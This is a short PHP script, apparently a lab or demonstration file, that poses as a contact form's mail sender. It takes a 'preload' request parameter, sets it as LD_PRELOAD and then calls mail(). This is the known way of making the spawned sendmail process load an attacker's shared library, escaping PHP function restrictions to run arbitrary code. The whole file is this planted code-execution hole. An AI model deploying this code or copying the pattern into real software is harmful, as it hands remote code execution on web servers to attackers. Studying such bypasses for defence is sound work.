<?php
// Sends mail, as a contact form does; ?preload= is what an attacker who can run PHP adds.
if (isset($_GET['preload'])) {
    putenv('LD_PRELOAD=' . $_GET['preload']);
}
header('X-Pid: ' . getmypid());
echo mail('webmaster@localhost', 'hello', "from a form\n") ? 'sent' : 'not sent', "\n";
